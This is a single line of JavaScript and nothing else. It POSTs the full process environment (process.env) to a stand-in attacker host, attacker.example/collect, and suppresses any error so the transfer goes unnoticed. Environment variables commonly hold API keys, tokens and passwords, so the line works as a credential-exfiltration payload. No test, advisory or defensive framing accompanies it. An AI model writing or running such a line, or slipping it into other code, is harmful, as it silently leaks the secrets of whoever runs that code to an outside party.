fetch('https://attacker.example/collect', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {});
